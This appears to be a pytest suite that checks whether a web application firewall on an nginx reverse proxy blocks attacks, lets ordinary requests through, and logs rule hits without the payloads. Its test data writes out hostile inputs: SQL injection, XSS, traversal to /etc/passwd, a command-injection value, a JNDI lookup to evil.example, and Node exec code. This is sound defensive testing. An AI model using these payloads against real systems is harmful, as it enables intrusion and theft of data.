# SPDX-License-Identifier: GPL-3.0-or-later
"""The firewall stops attacks, lets honest requests through, and tells what it found without telling what was sent."""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

if TYPE_CHECKING:
    from molecule.reverse_proxy.tests.conftest import Answer, Edge, Lab

JSON = ("-H", "Content-Type: application/json", "--data-binary")
SQL = "1' or 1=1-- -"
UNION = " union select password from users"
# What each attack is, and the rules that may find it.
ATTACKS: dict[str, tuple[str, tuple[str, ...]]] = {
    "SQL in a query": (f"/v1/items?q={quote(SQL)}", ()),
    "SQL in JSON": ("/write", (*JSON, json.dumps({"name": SQL}))),
    "SQL deep in JSON": ("/write", (*JSON, json.dumps({"a": [{"b": {"c": "1" + UNION}}]}))),
    "SQL in a form": ("/write", ("--data-urlencode", f"name={SQL}")),
    "SQL in a multipart form": ("/write", ("--form-string", f"name={SQL}")),
    "SQL in a cookie": ("/", ("-H", f"Cookie: id={quote(SQL)}")),
    "script in a query": (f"/?q={quote('<script>alert(1)</script>')}", ()),
    "script in a vendor's JSON": (
        "/write",
        ("-H", "Content-Type: application/cloudevents+json", "-d", '{"data": "<img src=x onerror=alert(1)>"}'),
    ),
    "script in XML": ("/write", ("-H", "Content-Type: application/xml", "-d", "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>")),
    "script with a byte for each bracket": ("/?q=%BCscript%BEalert(1)%BC/script%BE", ()),
    "script with a byte for the last bracket": ("/?q=<script%BEalert(1)", ()),
    "script between a quarter and three": ("/?q=%C2%BCscript%C2%BEalert(1)", ()),
    "SQL by quotes of typography": ("/?id=%E2%80%99%20OR%20%E2%80%991%3D1%23%3B--", ()),
    "a handler that no other rule knows": (f"/?q={quote('YWJj/onabcdef=a')}", ()),
    "a handler after what looks like base64": (f"/?q={quote('YWJj onabcdef==1')}", ()),
    "script in half of an encoding": ("/?q=a%BCimg%20src=x%20onerror=alert(1)>", ()),
    "traversal in a query": ("/?file=../../../../etc/passwd", ()),
    "traversal in the path": ("/files/a/b/..%2f..%2fetc%2fpasswd", ()),
    "a command": ("/write", (*JSON, json.dumps({"host": "localhost; cat /etc/passwd"}))),
    "JNDI in a header": ("/", ("-H", "X-Api-Version: ${jndi:ldap://evil.example/a}")),
    "code of node": ("/write", (*JSON, json.dumps({"x": "require('child_process').exec('id')"}))),
    "a scanner": ("/", ("-A", "sqlmap/1.7")),
    "a method that the API does not know": ("/", ("-X", "PROPFIND")),
    "a content type that the API does not take": ("/write", ("-H", "Content-Type: text/x-strange", "-d", "x")),
}  # fmt: skip
HONEST: dict[str, tuple[str, tuple[str, ...]]] = {
    "a page": ("/v1/items?page=2&per_page=50&sort=-created_at&fields=id,name", ()),
    "a time": ("/v1/items?since=2026-11-24T08:00:00%2B01:00", ()),
    "an address": ("/v1/users?email=mary.o%27brien%2Btest@example.com", ()),
    "another method": ("/v1/items/7f9c24e5-2b0c-4c7a-9d6e-1f2a3b4c5d6e", ("-X", "DELETE")),
    "a patch": ("/v1/items/1", ("-X", "PATCH", *JSON, '{"name": "second"}')),
    "a text": ("/write", (*JSON, json.dumps({"text": "We'd like to update our order; please select the blue one & ship to Zürich."}))),
    "Russian": ("/write", (*JSON, json.dumps({"text": "Можно ли изменить заказ номер 17? Мы хотели бы добавить ещё одно место."}, ensure_ascii=False))),
    "Russian with markup": ("/write", (*JSON, json.dumps({"text": "Если 3 < x, то можно > или нет"}))),
    "Russian in a query": ("/v1/items?q=" + quote("можно ли ещё одно место"), ()),
    "Greek and Japanese": ("/write", (*JSON, json.dumps({"text": "Θα ήθελα μία θέση στο παράθυρο. 窓側の席を予約したいです。"}, ensure_ascii=False))),
    "base64 that ends like a handler": ("/write", (*JSON, json.dumps({"blob": "eo6Taxg6wG5jm8uMgV9onswPQ=="}))),
    "an empty object": ("/write", (*JSON, "{}")),
    "a list of numbers": ("/write", (*JSON, json.dumps(list(range(300))))),
    "a token": ("/", ("-H", f"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.{'a8Zk' * 40}.{'Qx3_' * 10}")),
    "a key": ("/", ("-H", f"X-API-Key: {'k9Qe' * 10}")),
    "no agent": ("/", ("-A", "")),
    "an agent of Python": ("/", ("-A", "python-requests/2.32.3")),
    "a function of SQL": ("/?q=version()", ()),
    "a form": ("/write", ("--data-urlencode", "name=Ümläut and more", "--data-urlencode", "amount=12.50")),
    "CORS": ("/v1/items", ("-X", "OPTIONS", "-H", "Origin: https://console.example.com", "-H", "Access-Control-Request-Method: POST")),
    "a large body": ("/write", (*JSON, json.dumps({"text": "lorem " * 20000}))),
}  # fmt: skip


def ask(edge: Edge, request: tuple[str, tuple[str, ...]]) -> Answer:
    path, options = request
    return edge.get(path, *options)


def hit(edge: Edge, answer: Answer) -> dict[str, Any]:
    """What the log tells of a request that was answered."""
    request_id = answer.header("x-request-id")
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        lines = edge.lab.run(
            edge.name, "journalctl", "-t", "nginx_waf", "-o", "cat", "-n", "300"
        ).splitlines()
        for line in lines:
            if request_id in line:
                found: dict[str, Any] = json.loads(line)
                return found
        time.sleep(0.3)
    raise AssertionError(f"no hit told of {request_id}")


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_refused(edge: Edge, name: str) -> None:
    answer = ask(edge, ATTACKS[name])
    assert (answer.status, answer.json["error"]["code"]) == (403, "forbidden")
    assert answer.json["error"]["request_id"] == answer.header("x-request-id")
    assert answer.header("x-frame-options") == "DENY"


@pytest.mark.parametrize("name", HONEST)
def test_honest_requests_pass(edge: Edge, name: str) -> None:
    assert ask(edge, HONEST[name]).status in (200, 201)


def test_a_body_that_is_not_what_it_says_is_refused(edge: Edge) -> None:
    answer = ask(edge, ("/write", (*JSON, '{"half": ')))
    assert (answer.status, answer.json["error"]["code"]) == (400, "bad_request")


def test_what_the_application_refuses_is_its_own(edge: Edge) -> None:
    answer = edge.get("/status/403")
    assert (answer.status, answer.json) == (403, {"error": {"code": "mine"}})


def test_the_log_tells_what_was_found_and_not_what_was_sent(edge: Edge) -> None:
    started = edge.lab.run(edge.name, "date", "+%F %T").strip()
    word = f"hunter{time.time_ns()}"
    query = ask(edge, (f"/v1/items?password={quote(f'{word}{SQL}')}", ()))
    body = ask(edge, ("/write", (*JSON, json.dumps({"password": word + UNION}))))
    header = ask(edge, ("/", ("-H", f"X-Secret: {word}${{jndi:ldap://{word}/a}}")))
    for answer, method, path in ((query, "GET", "/v1/items"), (body, "POST", "/write"), (header, "GET", "/")):
        told = hit(edge, answer)
        assert (told["event"], told["action"], told["status"]) == ("waf", "blocked", 403)
        assert (told["method"], told["path"]) == (method, path)
        assert told["client"] == edge.address.rpartition(".")[0] + ".1"
        assert told["score"] >= 5 and told["rules"]
    assert {rule["id"] // 1000 for rule in hit(edge, body)["rules"]} == {942}
    assert word not in edge.lab.run(edge.name, "journalctl", "--since", started, "-o", "cat")
    (line,) = edge.access_log(query.header("x-request-id"))
    assert (line["status"], line["waf"], line["backend"]) == (403, "blocked", "")
    assert (
        edge.lab.run(edge.name, "grep", "-c", word, "/var/log/nginx/access.jsonl", check=False).strip() == "0"
    )


def test_hits_are_not_kept(edge: Edge) -> None:
    """The file with what was sent is emptied once it is large, and what is told goes on."""
    path = "/run/hardened-edge-log/hits.jsonl"
    edge.lab.run(edge.name, "sh", "-c", f"yes '{{}}' | head -n 2000000 >> {path}")
    deadline = time.monotonic() + 60
    while int(edge.lab.run(edge.name, "stat", "-c", "%s", path)) > 4_000_000:
        assert time.monotonic() < deadline
        time.sleep(0.5)
    told = edge.lab.run(edge.name, "journalctl", "-t", "nginx_waf", "-o", "cat", "-n", "5000")
    counted = sum(
        json.loads(line).get("lines_not_told", 1)
        for line in told.splitlines()
        if "told" in line or "unknown" in line
    )
    assert counted >= 2_000_000
    assert hit(edge, ask(edge, ATTACKS["SQL in a query"]))["action"] == "blocked"


@pytest.fixture
def otherwise(lab: Lab) -> Iterator[Any]:
    """Other settings, and the usual ones afterwards."""

    def configure(**variables: object) -> None:
        playbook = lab.playbook("waf.yml", **variables)
        output, _nothing = playbook.communicate(timeout=300)
        assert playbook.returncode == 0, output

    yield configure
    configure()


def test_modes(lab: Lab, otherwise: Any) -> None:
    from molecule.reverse_proxy.tests.conftest import EDGES, Edge

    edges = [Edge(name, lab) for name in EDGES]
    attack = ATTACKS["SQL in JSON"]
    otherwise(reverse_proxy_waf_mode="detect")
    for edge in edges:
        answer = ask(edge, attack)
        assert answer.status == 201
        told = hit(edge, answer)
        assert (told["action"], told["score"] >= 5) == ("detected", True)

    # Half of the addresses: which half this one is in is known.
    first = int(hashlib.sha1(me(edges[0]).encode(), usedforsecurity=False).hexdigest()[:2], 16)
    percent = first * 100 // 256
    for share, status in ((min(percent + 3, 99), 403), (max(percent - 3, 1), 201)):
        otherwise(reverse_proxy_waf_mode="staged", reverse_proxy_waf_staged_share=share)
        assert {ask(edge, attack).status for edge in edges} == {status}
    otherwise(
        reverse_proxy_waf_mode="staged",
        reverse_proxy_waf_staged_share=max(percent - 3, 1),
        reverse_proxy_waf_staged_score=10,
    )
    assert {ask(edge, attack).status for edge in edges} == {201}
    assert {ask(edge, ATTACKS["a command"]).status for edge in edges} == {403}

    otherwise(reverse_proxy_waf_mode="off")
    for edge in edges:
        assert ask(edge, attack).status == 201


def test_paranoia_and_exclusions(lab: Lab, otherwise: Any) -> None:
    from molecule.reverse_proxy.tests.conftest import EDGES, Edge

    exclusions = [
        {
            "path": "/write/sql",
            "reason": "Takes queries",
            "tags": ["attack-sqli"],
            "targets": ["ARGS:json.query"],
        },
        {
            "path": "/write/old",
            "reason": "Takes anything",
            "methods": ["POST"],
            "rules": [942100, 942190, 942360],
        },
    ]
    otherwise(reverse_proxy_waf_paranoia=2, reverse_proxy_waf_exclusions=exclusions)
    query, other = json.dumps({"query": SQL}), json.dumps({"name": SQL})
    for edge in (Edge(name, lab) for name in EDGES):
        # Stands in nobody's way at level 1.
        assert ask(edge, HONEST["a function of SQL"]).status == 403
        for path, options, status in (
            ("/write/sql", (*JSON, query), 201),
            ("/write/sql/more", (*JSON, query), 201),
            ("/write/sql", (*JSON, other), 403),
            ("/write/sqlite", (*JSON, query), 403),
            # Not what the application takes for that path.
            ("/write/sql/../other", (*JSON, query), 403),
            ("/write/sql/%2e%2e/other", (*JSON, query), 403),
            ("/write", (*JSON, query), 403),
            ("/write/old", ("-X", "PUT", *JSON, other), 403),
        ):
            assert (path, edge.get(path, *options).status) == (path, status)


def me(edge: Edge) -> str:
    return edge.address.rpartition(".")[0] + ".1"
